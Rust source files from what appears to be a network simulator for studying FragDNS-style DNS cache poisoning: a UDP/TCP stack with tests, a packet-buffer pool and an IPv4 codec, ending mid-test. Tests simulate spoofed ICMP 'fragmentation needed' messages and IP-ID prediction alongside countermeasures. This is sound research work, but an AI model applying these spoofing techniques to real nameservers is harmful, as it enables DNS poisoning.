                if let Unreachable::FragmentationNeeded { mtu } = kind {
                    // PMTUD: only honour errors that quote a packet we could
                    // actually have sent (destination of the quoted header).
                    if self.config.pmtud_enabled {
                        if let Some(quoted) = IcmpMessage::decode(&pkt.payload).ok().and_then(|m| m.quoted_header()) {
                            if self.owns(quoted.src) && self.pmtu.on_fragmentation_needed(quoted.dst, mtu, now) {
                                out.events.push(StackEvent::PmtuUpdate { dst: quoted.dst, mtu: mtu.max(MIN_IPV4_MTU) });
                            }
                        }
                    }
                }
                out.events.push(StackEvent::IcmpError { from: pkt.header.src, kind, quoted_ports });
            }
        }
    }
}

fn msg_quoted_ports(payload: &[u8]) -> Option<(u16, u16)> {
    IcmpMessage::decode(payload).ok().and_then(|m| m.quoted_udp_ports())
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use rand_chacha::ChaCha20Rng;

    const HOST: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 1);
    const PEER: Ipv4Addr = Ipv4Addr::new(123, 0, 0, 53);

    fn rng() -> ChaCha20Rng {
        ChaCha20Rng::seed_from_u64(1)
    }

    fn stack() -> UdpStack {
        UdpStack::with_defaults(vec![HOST])
    }

    fn udp_to(stack_addr: Ipv4Addr, port: u16, payload: &[u8], id: u16) -> Ipv4Packet {
        UdpDatagram::new(PEER, stack_addr, 53, port, payload.to_vec()).into_packet(id, 64)
    }

    #[test]
    fn delivers_to_open_port() {
        let mut s = stack();
        s.open_port(4444);
        let out = s.handle_packet(&udp_to(HOST, 4444, b"hi", 1), SimTime::ZERO, &mut rng());
        assert!(matches!(&out.events[0], StackEvent::Udp(d) if d.payload == b"hi"));
        assert!(out.replies.is_empty());
    }

    #[test]
    fn closed_port_generates_rate_limited_icmp() {
        let mut s = stack();
        let mut r = rng();
        let mut icmp_replies = 0;
        for i in 0..60 {
            let out = s.handle_packet(&udp_to(HOST, 5555, b"probe", i), SimTime::ZERO, &mut r);
            icmp_replies += out.replies.len();
        }
        // Linux default: only 50 ICMP errors in the same instant.
        assert_eq!(icmp_replies, 50);
        assert_eq!(s.icmp_limiter().suppressed, 10);
    }

    #[test]
    fn ignores_packets_for_other_hosts() {
        let mut s = stack();
        let other: Ipv4Addr = "9.9.9.9".parse().unwrap();
        let out = s.handle_packet(&udp_to(other, 53, b"x", 3), SimTime::ZERO, &mut rng());
        assert!(matches!(out.events[0], StackEvent::Dropped(_)));
    }

    #[test]
    fn answers_ping_when_configured() {
        let mut s = stack();
        let ping = IcmpMessage::EchoRequest { id: 9, seq: 1, payload: vec![] }.into_packet(PEER, HOST, 7, 64);
        let out = s.handle_packet(&ping, SimTime::ZERO, &mut rng());
        assert_eq!(out.replies.len(), 1);
        assert!(matches!(out.events[0], StackEvent::EchoRequest { .. }));
        let mut silent = UdpStack::new(vec![HOST], StackConfig { respond_to_ping: false, ..Default::default() });
        let ping2 = IcmpMessage::EchoRequest { id: 9, seq: 1, payload: vec![] }.into_packet(PEER, HOST, 7, 64);
        assert!(silent.handle_packet(&ping2, SimTime::ZERO, &mut rng()).replies.is_empty());
    }

    #[test]
    fn pmtud_lowers_mtu_and_fragments_subsequent_sends() {
        let mut s = stack();
        let mut r = rng();
        // Host sends a large response; initially unfragmented (1500 MTU).
        let pkts = s.send_udp(UdpDatagram::new(HOST, PEER, 53, 3333, vec![0u8; 1300]), SimTime::ZERO, &mut r);
        assert_eq!(pkts.len(), 1);
        // Attacker spoofs an ICMP frag-needed quoting that packet with MTU 68.
        let ptb = IcmpMessage::fragmentation_needed(&pkts[0], 68).into_packet(PEER, HOST, 9, 64);
        let out = s.handle_packet(&ptb, SimTime::ZERO, &mut r);
        assert!(out.events.iter().any(|e| matches!(e, StackEvent::PmtuUpdate { mtu: 68, .. })));
        // The next large response is now fragmented down to the minimum MTU.
        let pkts2 = s.send_udp(UdpDatagram::new(HOST, PEER, 53, 3333, vec![0u8; 1300]), SimTime::ZERO, &mut r);
        assert!(pkts2.len() > 1);
        assert!(pkts2.iter().all(|p| p.wire_len() <= 68));
    }

    #[test]
    fn hardened_stack_ignores_tiny_ptb() {
        let cfg = StackConfig { min_accepted_mtu: 1280, ..Default::default() };
        let mut s = UdpStack::new(vec![HOST], cfg);
        let mut r = rng();
        let pkts = s.send_udp(UdpDatagram::new(HOST, PEER, 53, 3333, vec![0u8; 1300]), SimTime::ZERO, &mut r);
        let ptb = IcmpMessage::fragmentation_needed(&pkts[0], 68).into_packet(PEER, HOST, 9, 64);
        let out = s.handle_packet(&ptb, SimTime::ZERO, &mut r);
        assert!(!out.events.iter().any(|e| matches!(e, StackEvent::PmtuUpdate { .. })));
        let pkts2 = s.send_udp(UdpDatagram::new(HOST, PEER, 53, 3333, vec![0u8; 1300]), SimTime::ZERO, &mut r);
        assert_eq!(pkts2.len(), 1);
    }

    #[test]
    fn ipid_policies_behave_as_documented() {
        let mut r = rng();
        let mut global =
            UdpStack::new(vec![HOST], StackConfig { ipid_policy: IpIdPolicy::GlobalCounter, ..Default::default() });
        let a: Ipv4Addr = "1.1.1.1".parse().unwrap();
        let b: Ipv4Addr = "2.2.2.2".parse().unwrap();
        let id1 = global.next_ipid(a, &mut r);
        let id2 = global.next_ipid(b, &mut r);
        assert_eq!(id2, id1.wrapping_add(1), "global counter shared across destinations");

        let mut per_dest =
            UdpStack::new(vec![HOST], StackConfig { ipid_policy: IpIdPolicy::PerDestination, ..Default::default() });
        let a1 = per_dest.next_ipid(a, &mut r);
        let _b1 = per_dest.next_ipid(b, &mut r);
        let a2 = per_dest.next_ipid(a, &mut r);
        assert_eq!(a2, a1.wrapping_add(1));

        let mut random =
            UdpStack::new(vec![HOST], StackConfig { ipid_policy: IpIdPolicy::Random, ..Default::default() });
        let vals: Vec<u16> = (0..8).map(|_| random.next_ipid(a, &mut r)).collect();
        let increments = vals.windows(2).filter(|w| w[1] == w[0].wrapping_add(1)).count();
        assert!(increments < 7, "random IPIDs must not look like a counter");
    }

    #[test]
    fn fragment_filtering_countermeasure() {
        let cfg = StackConfig { accept_fragments: false, ..Default::default() };
        let mut s = UdpStack::new(vec![HOST], cfg);
        s.open_port(1000);
        let big = UdpDatagram::new(PEER, HOST, 53, 1000, vec![0u8; 1200]).into_packet(5, 64);
        let frags = fragment_packet(&big, 576);
        let mut r = rng();
        for f in &frags {
            let out = s.handle_packet(f, SimTime::ZERO, &mut r);
            assert!(out.events.iter().all(|e| matches!(e, StackEvent::Dropped(_))));
        }
    }

    #[test]
    fn fragmented_udp_delivered_after_reassembly() {
        let mut s = stack();
        s.open_port(1000);
        let big = UdpDatagram::new(PEER, HOST, 53, 1000, vec![0xAB; 1200]).into_packet(5, 64);
        let frags = fragment_packet(&big, 576);
        let mut r = rng();
        let mut delivered = false;
        for f in &frags {
            let out = s.handle_packet(f, SimTime::ZERO, &mut r);
            for e in out.events {
                if let StackEvent::Udp(d) = e {
                    assert_eq!(d.payload.len(), 1200);
                    delivered = true;
                }
            }
        }
        assert!(delivered);
    }

    #[test]
    fn icmp_error_reports_quoted_ports() {
        let mut s = stack();
        let probe = UdpDatagram::new(HOST, PEER, 40000, 53, b"q".to_vec()).into_packet(3, 64);
        let err = IcmpMessage::port_unreachable(&probe).into_packet(PEER, HOST, 4, 64);
        let out = s.handle_packet(&err, SimTime::ZERO, &mut rng());
        assert!(out.events.iter().any(|e| matches!(
            e,
            StackEvent::IcmpError { kind: Unreachable::Port, quoted_ports: Some((40000, 53)), .. }
        )));
    }

    #[test]
    fn tcp_delivered_to_open_port_and_rst_for_closed() {
        use crate::tcp::{TcpFlags, TcpSegment};
        let mut s = stack();
        s.open_tcp_port(53);
        let syn = TcpSegment {
            src: PEER,
            dst: HOST,
            src_port: 40000,
            dst_port: 53,
            seq: 100,
            ack: 0,
            flags: TcpFlags::syn(),
            window: 512,
            payload: vec![],
        };
        let out = s.handle_packet(&syn.clone().into_packet(1, 64), SimTime::ZERO, &mut rng());
        assert!(matches!(&out.events[0], StackEvent::Tcp(seg) if seg.dst_port == 53 && seg.flags.syn));
        assert!(out.replies.is_empty(), "connection state lives in the socket, not the stack");

        // Closed port: RST, not ICMP — and not rate limited.
        let mut probe = syn;
        probe.dst_port = 9999;
        let out = s.handle_packet(&probe.into_packet(2, 64), SimTime::ZERO, &mut rng());
        assert!(matches!(out.events[0], StackEvent::TcpClosedPort { port: 9999, rst_sent: true, .. }));
        assert_eq!(out.replies.len(), 1);
        let rst = crate::tcp::TcpSegment::from_packet(&out.replies[0]).unwrap();
        assert!(rst.flags.rst);
    }

    #[test]
    fn corrupt_tcp_segment_dropped() {
        use crate::tcp::{TcpFlags, TcpSegment};
        let mut s = stack();
        s.open_tcp_port(53);
        let seg = TcpSegment {
            src: PEER,
            dst: HOST,
            src_port: 40000,
            dst_port: 53,
            seq: 1,
            ack: 0,
            flags: TcpFlags::syn(),
            window: 512,
            payload: vec![],
        };
        let mut pkt = seg.into_packet(1, 64);
        pkt.payload[16] = 0; // zero the checksum: illegal for TCP
        pkt.payload[17] = 0;
        let out = s.handle_packet(&pkt, SimTime::ZERO, &mut rng());
        assert!(matches!(out.events[0], StackEvent::Dropped("tcp checksum/format error")));
    }

    #[test]
    fn tcp_mss_follows_path_mtu() {
        let mut s = stack();
        let mut r = rng();
        assert_eq!(s.tcp_mss_for(PEER, SimTime::ZERO), 1460);
        // A fragmentation-needed message lowers the path MTU and the MSS.
        let pkts = s.send_udp(UdpDatagram::new(HOST, PEER, 53, 3333, vec![0u8; 1300]), SimTime::ZERO, &mut r);
        let ptb = IcmpMessage::fragmentation_needed(&pkts[0], 576).into_packet(PEER, HOST, 9, 64);
        s.handle_packet(&ptb, SimTime::ZERO, &mut r);
        assert_eq!(s.tcp_mss_for(PEER, SimTime::ZERO), 536);
    }

    #[test]
    fn tcp_port_space_is_independent_of_udp() {
        let mut s = stack();
        s.open_port(53);
        assert!(!s.is_tcp_port_open(53));
        s.open_tcp_port(53);
        assert!(s.is_tcp_port_open(53));
        s.close_tcp_port(53);
        assert!(!s.is_tcp_port_open(53));
        assert!(s.is_port_open(53), "closing the TCP port leaves UDP open");
    }

    #[test]
    fn port_management() {
        let mut s = stack();
        assert!(!s.is_port_open(53));
        s.open_port(53);
        assert!(s.is_port_open(53));
        assert_eq!(s.open_port_count(), 1);
        s.close_port(53);
        assert!(!s.is_port_open(53));
    }
}
