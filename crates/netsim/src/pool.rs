//! Thread-local packet-buffer pool.
//!
//! Every UDP datagram or TCP segment used to allocate a fresh `Vec<u8>` on
//! encode and drop it after delivery — at million-client farm scale that is
//! two heap round-trips per simulated packet. The pool keeps a small
//! per-thread free list of cleared byte buffers: encoders call [`take`], the
//! engine (and any owner done with a packet) calls [`give`] when a payload
//! buffer dies. Buffers are always handed out **cleared** and fully
//! rewritten by the encoders, so reuse cannot leak bytes between packets and
//! has no effect on determinism.
//!
//! The free list is thread-local because simulations are single-threaded and
//! campaign workers each run their own sims; nothing here is shared across
//! threads. The hit/miss counters inherit that thread affinity: a campaign
//! worker thread runs many shards back to back, so the counters are only
//! meaningful as reset-before/read-after deltas around a single-threaded
//! simulation ([`reset_counters`] then [`counters`]) and are deliberately
//! **excluded** from shard-merged telemetry snapshots.

use std::cell::RefCell;

/// Maximum number of buffers retained per thread.
const MAX_POOLED: usize = 1024;
/// Buffers with more capacity than this are dropped rather than pooled, so a
/// rare jumbo packet cannot pin memory forever.
const MAX_POOLED_CAPACITY: usize = 4096;

/// Free list plus accounting for one thread.
#[derive(Default)]
struct PoolState {
    free: Vec<Vec<u8>>,
    counters: PoolCounters,
}

/// Snapshot of this thread's pool activity (see [`counters`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PoolCounters {
    /// [`take`] calls satisfied from the free list.
    pub hits: u64,
    /// [`take`] calls that fell through to a fresh heap allocation because
    /// the free list was empty (pool-exhausted allocations).
    pub misses: u64,
    /// Buffers accepted back into the free list by [`give`].
    pub returned: u64,
    /// Buffers [`give`] declined to pool (oversized, zero-capacity, or the
    /// free list was full) — each one is a heap deallocation.
    pub dropped: u64,
}

thread_local! {
    static POOL: RefCell<PoolState> = RefCell::new(PoolState::default());
}

/// Takes a cleared buffer with at least `capacity` bytes of room, reusing a
/// pooled one when available.
pub fn take(capacity: usize) -> Vec<u8> {
    POOL.with(|p| {
        let mut p = p.borrow_mut();
        match p.free.pop() {
            Some(mut v) => {
                p.counters.hits += 1;
                if v.capacity() < capacity {
                    v.reserve(capacity - v.len());
                }
                v
            }
            None => {
                p.counters.misses += 1;
                Vec::with_capacity(capacity)
            }
        }
    })
}

/// Returns a dead buffer to the pool (cleared first). Oversized or
/// zero-capacity buffers are simply dropped.
pub fn give(mut buf: Vec<u8>) {
    POOL.with(|p| {
        let mut p = p.borrow_mut();
        if buf.capacity() == 0 || buf.capacity() > MAX_POOLED_CAPACITY || p.free.len() >= MAX_POOLED {
            p.counters.dropped += 1;
            return;
        }
        buf.clear();
        p.counters.returned += 1;
        p.free.push(buf);
    });
}

/// Number of buffers currently pooled on this thread (for tests and
/// instrumentation).
pub fn pooled() -> usize {
    POOL.with(|p| p.borrow().free.len())
}

/// This thread's pool counters since the last [`reset_counters`]. Because
/// the pool is thread-local and campaign workers reuse threads across
/// shards, only reset/read deltas around a single-threaded run are
/// deterministic; never fold raw values into a shard-merged snapshot.
pub fn counters() -> PoolCounters {
    POOL.with(|p| p.borrow().counters)
}

/// Zeroes this thread's pool counters (the free list itself is untouched).
pub fn reset_counters() {
    POOL.with(|p| p.borrow_mut().counters = PoolCounters::default());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn buffers_round_trip_cleared() {
        let mut b = take(64);
        b.extend_from_slice(b"hello");
        give(b);
        let b2 = take(16);
        assert!(b2.is_empty(), "pooled buffers are handed out cleared");
        assert!(b2.capacity() >= 16);
        give(b2);
    }

    #[test]
    fn oversized_buffers_are_not_pooled() {
        let before = pooled();
        give(vec![0u8; MAX_POOLED_CAPACITY + 1]);
        assert_eq!(pooled(), before);
    }

    #[test]
    fn take_grows_small_pooled_buffers() {
        give(Vec::with_capacity(8));
        let b = take(1000);
        assert!(b.capacity() >= 1000);
    }

    #[test]
    fn counters_track_hits_misses_and_drops() {
        // Drain the free list so the first take is a guaranteed miss, then
        // measure a full miss -> return -> hit -> oversized-drop cycle.
        while pooled() > 0 {
            let _ = POOL.with(|p| p.borrow_mut().free.pop());
        }
        reset_counters();
        let b = take(32);
        give(b);
        let b = take(32);
        give(vec![0u8; MAX_POOLED_CAPACITY + 1]);
        give(b);
        let c = counters();
        assert_eq!(c.misses, 1);
        assert_eq!(c.hits, 1);
        assert_eq!(c.returned, 2);
        assert_eq!(c.dropped, 1);
        reset_counters();
        assert_eq!(counters(), PoolCounters::default());
    }
}
