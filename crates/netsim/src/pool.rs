//! Thread-local packet-buffer pool.
//!
//! Every UDP datagram or TCP segment used to allocate a fresh `Vec<u8>` on
//! encode and drop it after delivery — at million-client farm scale that is
//! two heap round-trips per simulated packet. The pool keeps a small
//! per-thread free list of cleared byte buffers: encoders call [`take`], the
//! engine (and any owner done with a packet) calls [`give`] when a payload
//! buffer dies. Buffers are always handed out **cleared** and fully
//! rewritten by the encoders, so reuse cannot leak bytes between packets and
//! has no effect on determinism.
//!
//! The free list is thread-local because simulations are single-threaded and
//! campaign workers each run their own sims; nothing here is shared across
//! threads.

use std::cell::RefCell;

/// Maximum number of buffers retained per thread.
const MAX_POOLED: usize = 1024;
/// Buffers with more capacity than this are dropped rather than pooled, so a
/// rare jumbo packet cannot pin memory forever.
const MAX_POOLED_CAPACITY: usize = 4096;

thread_local! {
    static POOL: RefCell<Vec<Vec<u8>>> = const { RefCell::new(Vec::new()) };
}

/// Takes a cleared buffer with at least `capacity` bytes of room, reusing a
/// pooled one when available.
pub fn take(capacity: usize) -> Vec<u8> {
    POOL.with(|p| match p.borrow_mut().pop() {
        Some(mut v) => {
            if v.capacity() < capacity {
                v.reserve(capacity - v.len());
            }
            v
        }
        None => Vec::with_capacity(capacity),
    })
}

/// Returns a dead buffer to the pool (cleared first). Oversized or
/// zero-capacity buffers are simply dropped.
pub fn give(mut buf: Vec<u8>) {
    if buf.capacity() == 0 || buf.capacity() > MAX_POOLED_CAPACITY {
        return;
    }
    buf.clear();
    POOL.with(|p| {
        let mut p = p.borrow_mut();
        if p.len() < MAX_POOLED {
            p.push(buf);
        }
    });
}

/// Number of buffers currently pooled on this thread (for tests and
/// instrumentation).
pub fn pooled() -> usize {
    POOL.with(|p| p.borrow().len())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn buffers_round_trip_cleared() {
        let mut b = take(64);
        b.extend_from_slice(b"hello");
        give(b);
        let b2 = take(16);
        assert!(b2.is_empty(), "pooled buffers are handed out cleared");
        assert!(b2.capacity() >= 16);
        give(b2);
    }

    #[test]
    fn oversized_buffers_are_not_pooled() {
        let before = pooled();
        give(vec![0u8; MAX_POOLED_CAPACITY + 1]);
        assert_eq!(pooled(), before);
    }

    #[test]
    fn take_grows_small_pooled_buffers() {
        give(Vec::with_capacity(8));
        let b = take(1000);
        assert!(b.capacity() >= 1000);
    }
}
