//! IPv4 header encoding/decoding and the [`Ipv4Packet`] type.
//!
//! The header layout follows RFC 791. The fields that matter most to the
//! attacks in this workspace are the **identification** field (guessed or
//! predicted by FragDNS), the **DF/MF flags** and the **fragment offset**
//! (used both by path-MTU-discovery triggered fragmentation and by the
//! attacker's spoofed fragments).

use crate::checksum;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;

/// Length of an IPv4 header without options, in bytes.
pub const IPV4_HEADER_LEN: usize = 20;

/// The minimum MTU every IPv4 link must support (RFC 791). The FragDNS
/// attacker advertises this value in its spoofed ICMP "fragmentation needed"
/// messages to force the nameserver to emit the smallest possible fragments.
pub const MIN_IPV4_MTU: u16 = 68;

/// The conventional Ethernet MTU used as the default link MTU.
pub const DEFAULT_MTU: u16 = 1500;

/// IP protocol numbers used by the simulator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Protocol {
    /// ICMP (protocol number 1).
    Icmp,
    /// TCP (protocol number 6). Modelled only as opaque payload.
    Tcp,
    /// UDP (protocol number 17).
    Udp,
    /// Any other protocol number.
    Other(u8),
}

impl Protocol {
    /// The wire value of the protocol number.
    pub fn number(self) -> u8 {
        match self {
            Protocol::Icmp => 1,
            Protocol::Tcp => 6,
            Protocol::Udp => 17,
            Protocol::Other(n) => n,
        }
    }

    /// Parses a wire protocol number.
    pub fn from_number(n: u8) -> Self {
        match n {
            1 => Protocol::Icmp,
            6 => Protocol::Tcp,
            17 => Protocol::Udp,
            other => Protocol::Other(other),
        }
    }
}

impl fmt::Display for Protocol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Protocol::Icmp => write!(f, "ICMP"),
            Protocol::Tcp => write!(f, "TCP"),
            Protocol::Udp => write!(f, "UDP"),
            Protocol::Other(n) => write!(f, "proto({n})"),
        }
    }
}

/// A decoded IPv4 header (without options).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ipv4Header {
    /// The identification field shared by all fragments of a datagram.
    pub identification: u16,
    /// Don't Fragment flag.
    pub dont_fragment: bool,
    /// More Fragments flag.
    pub more_fragments: bool,
    /// Fragment offset in units of 8 bytes.
    pub fragment_offset: u16,
    /// Time to live.
    pub ttl: u8,
    /// Upper-layer protocol.
    pub protocol: Protocol,
    /// Source address (spoofable by off-path attackers).
    pub src: Ipv4Addr,
    /// Destination address.
    pub dst: Ipv4Addr,
    /// Total length of the datagram (header + payload), in bytes.
    pub total_length: u16,
}

impl Ipv4Header {
    /// Creates a non-fragmented header for a payload of the given length.
    pub fn new(
        src: Ipv4Addr,
        dst: Ipv4Addr,
        protocol: Protocol,
        payload_len: usize,
        identification: u16,
        ttl: u8,
    ) -> Self {
        Ipv4Header {
            identification,
            dont_fragment: false,
            more_fragments: false,
            fragment_offset: 0,
            ttl,
            protocol,
            src,
            dst,
            total_length: (IPV4_HEADER_LEN + payload_len) as u16,
        }
    }

    /// True when this header belongs to a fragment (either a non-zero offset
    /// or the "more fragments" flag set).
    pub fn is_fragment(&self) -> bool {
        self.more_fragments || self.fragment_offset != 0
    }

    /// The byte offset of this fragment's payload within the original datagram.
    pub fn payload_byte_offset(&self) -> usize {
        usize::from(self.fragment_offset) * 8
    }

    /// Encodes the header to its 20-byte wire representation, computing the
    /// header checksum.
    pub fn encode(&self) -> [u8; IPV4_HEADER_LEN] {
        let mut buf = [0u8; IPV4_HEADER_LEN];
        buf[0] = 0x45; // version 4, IHL 5
        buf[1] = 0; // DSCP/ECN
        buf[2..4].copy_from_slice(&self.total_length.to_be_bytes());
        buf[4..6].copy_from_slice(&self.identification.to_be_bytes());
        let mut flags_frag = self.fragment_offset & 0x1fff;
        if self.dont_fragment {
            flags_frag |= 0x4000;
        }
        if self.more_fragments {
            flags_frag |= 0x2000;
        }
        buf[6..8].copy_from_slice(&flags_frag.to_be_bytes());
        buf[8] = self.ttl;
        buf[9] = self.protocol.number();
        // checksum at 10..12 computed last
        buf[12..16].copy_from_slice(&self.src.octets());
        buf[16..20].copy_from_slice(&self.dst.octets());
        let ck = checksum::checksum(&buf);
        buf[10..12].copy_from_slice(&ck.to_be_bytes());
        buf
    }

    /// Decodes a header from wire bytes; also verifies the header checksum.
    pub fn decode(buf: &[u8]) -> Result<Self, Ipv4Error> {
        if buf.len() < IPV4_HEADER_LEN {
            return Err(Ipv4Error::Truncated);
        }
        let version = buf[0] >> 4;
        if version != 4 {
            return Err(Ipv4Error::BadVersion(version));
        }
        let ihl = usize::from(buf[0] & 0x0f) * 4;
        if ihl < IPV4_HEADER_LEN || buf.len() < ihl {
            return Err(Ipv4Error::Truncated);
        }
        if !checksum::verify(&buf[..ihl]) {
            return Err(Ipv4Error::BadChecksum);
        }
        let total_length = u16::from_be_bytes([buf[2], buf[3]]);
        let identification = u16::from_be_bytes([buf[4], buf[5]]);
        let flags_frag = u16::from_be_bytes([buf[6], buf[7]]);
        Ok(Ipv4Header {
            identification,
            dont_fragment: flags_frag & 0x4000 != 0,
            more_fragments: flags_frag & 0x2000 != 0,
            fragment_offset: flags_frag & 0x1fff,
            ttl: buf[8],
            protocol: Protocol::from_number(buf[9]),
            src: Ipv4Addr::new(buf[12], buf[13], buf[14], buf[15]),
            dst: Ipv4Addr::new(buf[16], buf[17], buf[18], buf[19]),
            total_length,
        })
    }
}

/// A full IPv4 packet: header plus upper-layer payload bytes.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Ipv4Packet {
    /// The IPv4 header.
    pub header: Ipv4Header,
    /// Upper-layer payload (UDP datagram, ICMP message, or a raw fragment slice).
    pub payload: Vec<u8>,
}

impl Ipv4Packet {
    /// Builds a packet from a header template and payload, fixing up the
    /// header's total length.
    pub fn new(mut header: Ipv4Header, payload: Vec<u8>) -> Self {
        header.total_length = (IPV4_HEADER_LEN + payload.len()) as u16;
        Ipv4Packet { header, payload }
    }

    /// The total on-wire size in bytes.
    pub fn wire_len(&self) -> usize {
        IPV4_HEADER_LEN + self.payload.len()
    }

    /// Serialises the packet to wire bytes.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_len());
        out.extend_from_slice(&self.header.encode());
        out.extend_from_slice(&self.payload);
        out
    }

    /// Parses a packet from wire bytes. Bytes beyond the header's
    /// total-length field are tolerated and ignored (link-layer padding),
    /// but a total length that is shorter than the header itself or longer
    /// than the buffer is a typed error.
    pub fn decode(buf: &[u8]) -> Result<Self, Ipv4Error> {
        let header = Ipv4Header::decode(buf)?;
        // Regression (fuzz target ipv4, corpus ipv4/options_ihl.bin): the
        // header struct does not model options, so an IHL above 5 used to
        // leave the options bytes at the front of the payload — a
        // cross-layer desync for every upper-layer parser.
        let ihl = usize::from(buf[0] & 0x0f) * 4;
        if ihl != IPV4_HEADER_LEN {
            return Err(Ipv4Error::OptionsUnsupported(buf[0] & 0x0f));
        }
        let total = usize::from(header.total_length);
        // Regression (fuzz target ipv4): a total length smaller than the
        // header used to be silently rounded up, and one larger than the
        // buffer silently clipped — both desynchronise any caller that
        // trusts the field for framing.
        if total < IPV4_HEADER_LEN {
            return Err(Ipv4Error::BadLength(header.total_length));
        }
        if buf.len() < total {
            return Err(Ipv4Error::Truncated);
        }
        Ok(Ipv4Packet { header, payload: buf[IPV4_HEADER_LEN..total].to_vec() })
    }

    /// A compact human-readable summary used by the trace recorder. TCP
    /// segments include their flags and sequence/acknowledgment numbers, so
    /// a trace records handshake interleavings (and seeded ISNs) exactly.
    pub fn summary(&self) -> String {
        let frag = if self.header.is_fragment() {
            format!(
                " frag(id={:#06x} off={} mf={})",
                self.header.identification,
                self.header.payload_byte_offset(),
                self.header.more_fragments
            )
        } else {
            String::new()
        };
        let tcp = if self.header.protocol == Protocol::Tcp
            && !self.header.is_fragment()
            && self.payload.len() >= crate::tcp::TCP_HEADER_LEN
        {
            let seq = u32::from_be_bytes([self.payload[4], self.payload[5], self.payload[6], self.payload[7]]);
            let ack = u32::from_be_bytes([self.payload[8], self.payload[9], self.payload[10], self.payload[11]]);
            format!(" [{}] seq={seq} ack={ack}", crate::tcp::TcpFlags::from_byte(self.payload[13]))
        } else {
            String::new()
        };
        format!(
            "{} {} -> {} len={}{}{}",
            self.header.protocol,
            self.header.src,
            self.header.dst,
            self.wire_len(),
            frag,
            tcp
        )
    }
}

/// Errors returned by the IPv4 codec.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ipv4Error {
    /// The buffer is too short to contain an IPv4 header.
    Truncated,
    /// The version nibble is not 4.
    BadVersion(u8),
    /// The header checksum does not verify.
    BadChecksum,
    /// The total-length field is smaller than the header itself.
    BadLength(u16),
    /// The IHL nibble implies IPv4 options, which this stack never emits
    /// and does not model.
    OptionsUnsupported(u8),
}

impl fmt::Display for Ipv4Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Ipv4Error::Truncated => write!(f, "truncated IPv4 header"),
            Ipv4Error::BadVersion(v) => write!(f, "bad IP version {v}"),
            Ipv4Error::BadChecksum => write!(f, "bad IPv4 header checksum"),
            Ipv4Error::BadLength(l) => write!(f, "IPv4 total length {l} shorter than the header"),
            Ipv4Error::OptionsUnsupported(ihl) => write!(f, "IPv4 options unsupported (IHL {ihl})"),
        }
    }
}

impl std::error::Error for Ipv4Error {}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_header() -> Ipv4Header {
        Ipv4Header::new("192.0.2.1".parse().unwrap(), "198.51.100.53".parse().unwrap(), Protocol::Udp, 100, 0x1234, 64)
    }

    #[test]
    fn header_roundtrip() {
        let h = sample_header();
        let bytes = h.encode();
        let decoded = Ipv4Header::decode(&bytes).unwrap();
        assert_eq!(h, decoded);
    }

    #[test]
    fn fragment_flags_roundtrip() {
        let mut h = sample_header();
        h.more_fragments = true;
        h.fragment_offset = 185; // 1480 bytes / 8
        let decoded = Ipv4Header::decode(&h.encode()).unwrap();
        assert!(decoded.more_fragments);
        assert!(!decoded.dont_fragment);
        assert_eq!(decoded.fragment_offset, 185);
        assert_eq!(decoded.payload_byte_offset(), 1480);
        assert!(decoded.is_fragment());
    }

    #[test]
    fn df_flag_roundtrip() {
        let mut h = sample_header();
        h.dont_fragment = true;
        let decoded = Ipv4Header::decode(&h.encode()).unwrap();
        assert!(decoded.dont_fragment);
        assert!(!decoded.is_fragment());
    }

    #[test]
    fn corrupted_header_rejected() {
        let h = sample_header();
        let mut bytes = h.encode().to_vec();
        bytes[8] ^= 0xff; // flip TTL without fixing checksum
        assert_eq!(Ipv4Header::decode(&bytes), Err(Ipv4Error::BadChecksum));
    }

    #[test]
    fn bad_version_rejected() {
        let h = sample_header();
        let mut bytes = h.encode().to_vec();
        bytes[0] = 0x65; // version 6
        assert!(matches!(Ipv4Header::decode(&bytes), Err(Ipv4Error::BadVersion(6))));
    }

    #[test]
    fn short_buffer_rejected() {
        assert_eq!(Ipv4Header::decode(&[0u8; 10]), Err(Ipv4Error::Truncated));
    }

    #[test]
    fn packet_roundtrip() {
        let payload = vec![0xabu8; 77];
        let pkt = Ipv4Packet::new(sample_header(), payload.clone());
        assert_eq!(pkt.header.total_length as usize, IPV4_HEADER_LEN + 77);
        let decoded = Ipv4Packet::decode(&pkt.encode()).unwrap();
        assert_eq!(decoded.payload, payload);
        assert_eq!(decoded.header, pkt.header);
    }

    #[test]
    fn total_length_shorter_than_header_rejected() {
        // Regression (fuzz target ipv4, corpus ipv4/len_under_header.bin):
        // a total-length of 8 used to be rounded up to the header length
        // and decoded as an empty packet.
        let mut pkt = Ipv4Packet::new(sample_header(), vec![0u8; 16]);
        pkt.header.total_length = 8;
        assert_eq!(Ipv4Packet::decode(&pkt.encode()), Err(Ipv4Error::BadLength(8)));
    }

    #[test]
    fn total_length_beyond_buffer_rejected() {
        // Regression (fuzz target ipv4, corpus ipv4/len_past_buffer.bin):
        // a claimed-but-absent tail used to be silently clipped to the
        // buffer instead of rejected.
        let mut pkt = Ipv4Packet::new(sample_header(), vec![0u8; 16]);
        pkt.header.total_length = (IPV4_HEADER_LEN + 17) as u16;
        assert_eq!(Ipv4Packet::decode(&pkt.encode()), Err(Ipv4Error::Truncated));
    }

    #[test]
    fn options_carrying_header_rejected_not_desynced() {
        // Regression (fuzz target ipv4, corpus ipv4/options_ihl.bin): with
        // IHL = 6 the four options bytes used to land at the front of the
        // decoded payload.
        let pkt = Ipv4Packet::new(sample_header(), vec![0u8; 16]);
        let mut bytes = pkt.encode();
        bytes[0] = 0x46; // version 4, IHL 6
